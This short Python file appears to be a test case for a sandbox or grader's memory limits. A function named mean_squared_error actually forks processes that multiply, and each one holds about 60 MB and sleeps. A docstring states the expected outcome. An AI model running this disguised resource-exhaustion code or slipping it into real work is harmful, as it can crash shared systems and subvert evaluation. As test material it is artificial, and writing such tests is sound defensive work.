"""Fill the memory in many processes, each of them below the limit.

worth: nothing
reply: memory
says: memory
"""
import os
import time


def mean_squared_error(x, x_hat):
    for _ in range(10):
        if os.fork() == 0:
            kept = b"x" * 60_000_000
            time.sleep(1000)
    time.sleep(1000)
